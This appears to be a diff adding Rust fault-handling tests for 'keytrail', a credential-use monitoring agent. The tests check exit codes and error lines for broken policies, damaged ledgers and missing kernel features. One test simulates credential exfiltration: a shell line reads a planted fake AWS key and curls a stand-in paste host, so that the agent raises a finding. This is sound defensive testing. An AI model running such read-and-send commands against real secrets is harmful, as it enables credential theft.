@@ -1,0 +1,306 @@
+//! Bad input and bad surroundings: each one clear line, and the right exit status.
+
+use anyhow::{Context as _, Result};
+use lab::{
+    agent::{Agent, binary},
+    server::TlsServer,
+    wait_for,
+    workload::{aws_credentials, sh},
+};
+use std::{
+    path::Path,
+    process::{Command, Output, Stdio},
+    time::{Duration, Instant},
+};
+
+fn keytrail(arguments: &[&str]) -> Result<Output> {
+    Ok(Command::new(binary()?)
+        .args(arguments)
+        .stdin(Stdio::null())
+        .output()?)
+}
+
+/// Runs the agent in a mount namespace of its own, after `prepare`.
+fn in_namespace(prepare: &str, state: &Path) -> Result<Output> {
+    let script = format!(
+        "{prepare} && exec timeout 20 {} run --listen 127.0.0.1:0 --state-dir {}",
+        binary()?.display(),
+        state.display()
+    );
+    Ok(Command::new("unshare")
+        .args(["--mount", "bash", "-c", &script])
+        .stdin(Stdio::null())
+        .output()?)
+}
+
+/// The status, and the one line that says why.
+fn assert_fails(output: &Output, status: i32, parts: &[&str]) {
+    let error = String::from_utf8_lossy(&output.stderr);
+    assert_eq!(output.status.code(), Some(status), "{error}");
+    let told: Vec<&str> = error.lines().filter(|line| line.starts_with("keytrail: ")).collect();
+    assert_eq!(told.len(), 1, "{error}");
+    for part in parts {
+        assert!(told[0].contains(part), "`{part}` is not in: {error}");
+    }
+    assert!(!error.contains("panicked"), "{error}");
+}
+
+#[test]
+fn not_root() -> Result<()> {
+    let state = tempfile::tempdir()?;
+    let binary = binary()?;
+    // A copy where anybody may run it.
+    let copy = state.path().join("keytrail");
+    std::fs::copy(&binary, &copy)?;
+    sh(&format!("chmod 755 {} {}", state.path().display(), copy.display()), &[])?;
+    let output = Command::new("setpriv")
+        .args(["--reuid=65534", "--regid=65534", "--clear-groups"])
+        .arg(&copy)
+        .args(["run", "--state-dir", "/tmp/keytrail-not-root"])
+        .output()?;
+    assert_fails(&output, 1, &["root", "CAP_BPF"]);
+    let output = Command::new("setpriv")
+        .args(["--reuid=65534", "--regid=65534", "--clear-groups"])
+        .arg(&copy)
+        .arg("doctor")
+        .output()?;
+    assert_eq!(output.status.code(), Some(1));
+    assert!(String::from_utf8_lossy(&output.stdout).contains("CAP_BPF"));
+    Ok(())
+}
+
+#[test]
+fn no_btf() -> Result<()> {
+    let state = tempfile::tempdir()?;
+    let output = in_namespace("mount -t tmpfs none /sys/kernel/btf", state.path())?;
+    assert_fails(&output, 1, &["/sys/kernel/btf/vmlinux", "CONFIG_DEBUG_INFO_BTF"]);
+    Ok(())
+}
+
+#[test]
+fn no_cgroup_v2() -> Result<()> {
+    let state = tempfile::tempdir()?;
+    let script = format!(
+        "umount -a -t cgroup2; {} doctor; status=$?; timeout -s TERM 6 {} run --listen 127.0.0.1:0 --state-dir {} ; exit $status",
+        binary()?.display(),
+        binary()?.display(),
+        state.path().display()
+    );
+    let output = Command::new("unshare").args(["--mount", "bash", "-c", &script]).output()?;
+    assert_eq!(output.status.code(), Some(1), "doctor: a needed probe is missing");
+    let report = String::from_utf8_lossy(&output.stdout);
+    assert!(report.contains("no cgroup v2 file system is mounted"), "{report}");
+    let log = String::from_utf8_lossy(&output.stderr);
+    assert!(log.contains("connections and TLS server names are not seen"), "{log}");
+    assert!(log.contains("ready"), "the rest keeps working: {log}");
+    Ok(())
+}
+
+#[test]
+fn a_broken_policy() -> Result<()> {
+    let directory = tempfile::tempdir()?;
+    let file = directory.path().join("policy.yaml");
+    std::fs::write(&file, "credentials:\n  - name: x\n    match: { file: /x }\n    destinatons: []\n")?;
+    let path = file.display().to_string();
+    for arguments in [vec!["policy", "check", &path], vec!["run", "--config", &path, "--state-dir", "/tmp/unused"]] {
+        assert_fails(&keytrail(&arguments)?, 2, &["policy.yaml:4:", "destinatons"]);
+    }
+    std::fs::write(&file, "credentials:\n  - name: x\n    match: { file: /x }\n")?;
+    let output = keytrail(&["policy", "check", &path])?;
+    assert!(output.status.success() && String::from_utf8_lossy(&output.stdout).contains("1 credentials"));
+    assert_fails(&keytrail(&["policy", "check", "/nonexistent.yaml"])?, 2, &["/nonexistent.yaml"]);
+    Ok(())
+}
+
+#[test]
+fn a_policy_that_breaks_later_does_not_replace_the_old_one() -> Result<()> {
+    let directory = tempfile::tempdir()?;
+    let config = directory.path().join("config.yaml");
+    let policy = |name: &str| format!("credentials:\n  - name: {name}\n    match: {{ file: '{}/**' }}\n", directory.path().display());
+    std::fs::write(&config, policy("first"))?;
+    let agent = Agent::start(directory.path(), &["--config", &config.display().to_string()])?;
+    let reloaded = |wanted: f64| {
+        wait_for("the configuration is looked at", Duration::from_secs(10), || {
+            Ok((agent.metric("keytrail_config_reload_success", &[])? == wanted).then_some(()))
+        })
+    };
+    std::fs::write(&config, "credentials: [")?;
+    reloaded(0.0)?;
+    let key = aws_credentials(directory.path(), "AKIAFAKEFAULTS000001", "FAKE/faults/secret/FAKE/faults/secret/01")?;
+    sh(&format!("cat {} >/dev/null", key.display()), &[])?;
+    agent.await_json(&["query", "who", "first"], |answer| answer["uses"].as_array().is_some_and(|uses| !uses.is_empty()))?;
+    std::fs::write(&config, policy("second"))?;
+    reloaded(1.0)?;
+    sh(&format!("cat {} >/dev/null", key.display()), &[])?;
+    agent.await_json(&["query", "who", "second"], |_| true)?;
+    Ok(())
+}
+
+#[test]
+fn a_damaged_and_a_newer_ledger() -> Result<()> {
+    let state = tempfile::tempdir()?;
+    let file = state.path().join("ledger.sqlite");
+    let path = state.path().display().to_string();
+    std::fs::write(&file, "this was a ledger once, and something has written over all of it")?;
+    let run = ["run", "--listen", "127.0.0.1:0", "--state-dir", &path];
+    assert_fails(&keytrail(&run)?, 1, &["ledger.sqlite", "damaged"]);
+    assert_fails(&keytrail(&["inventory", "--state-dir", &path])?, 1, &["ledger.sqlite", "damaged"]);
+    // The header of a SQLite file with 99 in the place of the user version.
+    std::fs::remove_file(&file)?;
+    drop(Agent::start(state.path(), &[])?);
+    let newer = state.path().join("state/ledger.sqlite");
+    for leftover in ["state/ledger.sqlite-wal", "state/ledger.sqlite-shm"] {
+        let _ = std::fs::remove_file(state.path().join(leftover));
+    }
+    let mut bytes = std::fs::read(&newer)?;
+    bytes[60..64].copy_from_slice(&99u32.to_be_bytes());
+    std::fs::write(&newer, bytes)?;
+    let path = state.path().join("state").display().to_string();
+    assert_fails(&keytrail(&["run", "--listen", "127.0.0.1:0", "--state-dir", &path])?, 1, &["schema 99", "newer"]);
+    assert_fails(&keytrail(&["findings", "--state-dir", &path])?, 1, &["schema 99"]);
+    Ok(())
+}
+
+#[test]
+fn an_address_in_use_and_addresses_that_are_none() -> Result<()> {
+    let directory = tempfile::tempdir()?;
+    let agent = Agent::start(directory.path(), &[])?;
+    let taken = agent.listen.to_string();
+    let other = directory.path().join("other").display().to_string();
+    assert_fails(&keytrail(&["run", "--listen", &taken, "--state-dir", &other])?, 1, &[&taken, "in use"]);
+    assert_fails(&keytrail(&["run", "--listen", "nowhere", "--state-dir", &other])?, 2, &["nowhere"]);
+    assert_fails(&keytrail(&["run", "--listen", "0.0.0.0:9477", "--state-dir", &other])?, 2, &["loopback"]);
+    let same = agent.state_dir.display().to_string();
+    assert_fails(&keytrail(&["run", "--listen", "127.0.0.1:0", "--state-dir", &same])?, 1, &["another agent"]);
+    Ok(())
+}
+
+#[test]
+fn a_state_directory_that_cannot_be_used() -> Result<()> {
+    let directory = tempfile::tempdir()?;
+    let file = directory.path().join("a-file");
+    std::fs::write(&file, "")?;
+    let path = file.display().to_string();
+    assert_fails(&keytrail(&["run", "--listen", "127.0.0.1:0", "--state-dir", &path])?, 1, &["a-file"]);
+    assert_fails(&keytrail(&["query", "who", "x", "--state-dir", &path])?, 1, &["a-file"]);
+    let empty = directory.path().display().to_string();
+    assert_fails(&keytrail(&["inventory", "--state-dir", &empty])?, 1, &["no ledger"]);
+    Ok(())
+}
+
+#[test]
+fn wrong_words() -> Result<()> {
+    for arguments in [
+        vec!["query", "who"],
+        vec!["findings", "--since", "yesterday"],
+        vec!["inventory", "--output", "xml"],
+        vec!["nothing"],
+    ] {
+        assert_eq!(keytrail(&arguments)?.status.code(), Some(2), "{arguments:?}");
+    }
+    assert_fails(&keytrail(&["findings", "--rule", "no-such-rule"])?, 2, &["no-such-rule", "unexpected-hop"]);
+    Ok(())
+}
+
+#[test]
+fn a_broken_recording() -> Result<()> {
+    let directory = tempfile::tempdir()?;
+    let file = directory.path().join("recording");
+    std::fs::write(&file, "{\"event\":\"tick\",\"time\":\"2026-01-01T00:00:00Z\"}\n{\"event\":\"nonsense\"}\n")?;
+    let path = file.display().to_string();
+    assert_fails(&keytrail(&["replay", &path])?, 1, &["recording:2"]);
+    std::fs::write(&file, [0xff, 0xfe, b'\n'])?;
+    assert_fails(&keytrail(&["replay", &path])?, 1, &["recording:1"]);
+    Ok(())
+}
+
+#[test]
+fn a_recording_is_judged_as_the_agent_judged() -> Result<()> {
+    let directory = tempfile::tempdir()?;
+    let server = TlsServer::start("127.0.0.1")?;
+    let key = aws_credentials(directory.path(), "AKIAFAKEFAULTS000002", "FAKE/faults/secret/FAKE/faults/secret/02")?;
+    let recording = directory.path().join("recording");
+    let live = directory.path().join("live");
+    let mut recorder = Command::new(binary()?)
+        .arg("record")
+        .arg(&recording)
+        .arg("--state-dir")
+        .arg(directory.path().join("state"))
+        .stdout(std::fs::File::create(&live)?)
+        .stderr(Stdio::piped())
+        .spawn()?;
+    let stderr = recorder.stderr.take().context("its log")?;
+    let mut log = std::io::BufRead::lines(std::io::BufReader::new(stderr));
+    log.find(|line| line.as_ref().is_ok_and(|line| line.contains("ready"))).context("it is ready")??;
+    std::thread::spawn(move || log.for_each(drop));
+    sh(
+        &format!("K=$(cat {}); curl -sS -k --connect-to ::127.0.0.1:{} https://paste.example/", key.display(), server.address.port()),
+        &[],
+    )?;
+    let found = wait_for("the finding while recording", Duration::from_secs(10), || {
+        Ok(std::fs::read_to_string(&live)?.lines().find(|line| line.contains("paste.example")).map(str::to_owned))
+    })?;
+    let pid = rustix::process::Pid::from_child(&recorder);
+    rustix::process::kill_process(pid, rustix::process::Signal::TERM)?;
+    assert!(recorder.wait()?.success());
+    let replayed = keytrail(&["replay", &recording.display().to_string()])?;
+    assert!(replayed.status.success(), "{}", String::from_utf8_lossy(&replayed.stderr));
+    let replayed = String::from_utf8(replayed.stdout)?;
+    assert!(replayed.lines().any(|line| line == found), "{found}\nis not in\n{replayed}");
+    assert!(!std::fs::read_to_string(&recording)?.contains("FAKE/faults"), "a secret in the recording");
+    Ok(())
+}
+
+#[test]
+fn kill_and_start_again() -> Result<()> {
+    let directory = tempfile::tempdir()?;
+    let key = aws_credentials(directory.path(), "AKIAFAKEFAULTS000003", "FAKE/faults/secret/FAKE/faults/secret/03")?;
+    let key = key.display().to_string();
+    let mut agent = Agent::start(directory.path(), &[])?;
+    let mut reads = 0;
+    let begin = Instant::now();
+    let mut settled = 0;
+    while begin.elapsed() < Duration::from_secs(4) {
+        sh(&format!("cat {key} >/dev/null"), &[])?;
+        reads += 1;
+        if begin.elapsed() < Duration::from_secs(3) {
+            settled = reads;
+        }
+    }
+    agent.kill()?;
+    let count = |agent: &Agent| -> Result<u64> {
+        let answer = agent.json(&["query", "who", &key])?.context("the ledger opens again")?;
+        Ok(answer["uses"].as_array().into_iter().flatten().filter_map(|used| used["count"].as_u64()).sum())
+    };
+    let kept = count(&agent)?;
+    assert!(kept >= settled, "{kept} of {reads} reads kept, {settled} were older than a second");
+    drop(agent);
+    let mut agent = Agent::start(directory.path(), &[])?;
+    assert_eq!(count(&agent)?, kept);
+    let answer = agent.json(&["inventory"])?.context("an answer")?;
+    let gaps = answer["gaps"].as_array().context("gaps")?;
+    assert!(gaps.iter().any(|gap| gap["kind"] == "agent-down"), "{gaps:?}");
+    sh(&format!("cat {key} >/dev/null"), &[])?;
+    agent.await_json(&["query", "who", &key], |answer| {
+        answer["uses"].as_array().into_iter().flatten().filter_map(|used| used["count"].as_u64()).sum::<u64>() == kept + 1
+    })?;
+    assert!(agent.stop()?.success(), "{}", agent.log_text());
+    Ok(())
+}
+
+#[test]
+fn what_ran_before_the_agent_is_taken_in() -> Result<()> {
+    let directory = tempfile::tempdir()?;
+    let mut early = Command::new("sleep")
+        .arg("60")
+        .env("DOPPLER_TOKEN", "dp.pt.FAKEfaultsFAKEfaultsFAKEfaults")
+        .spawn()?;
+    let agent = Agent::start(directory.path(), &[])?;
+    let answer = agent.await_json(&["query", "who", "env:DOPPLER_TOKEN"], |answer| {
+        answer["uses"].as_array().is_some_and(|uses| !uses.is_empty())
+    });
+    early.kill()?;
+    early.wait()?;
+    assert_eq!(answer?["uses"][0]["process"]["pid"], early.id());
+    Ok(())
+}
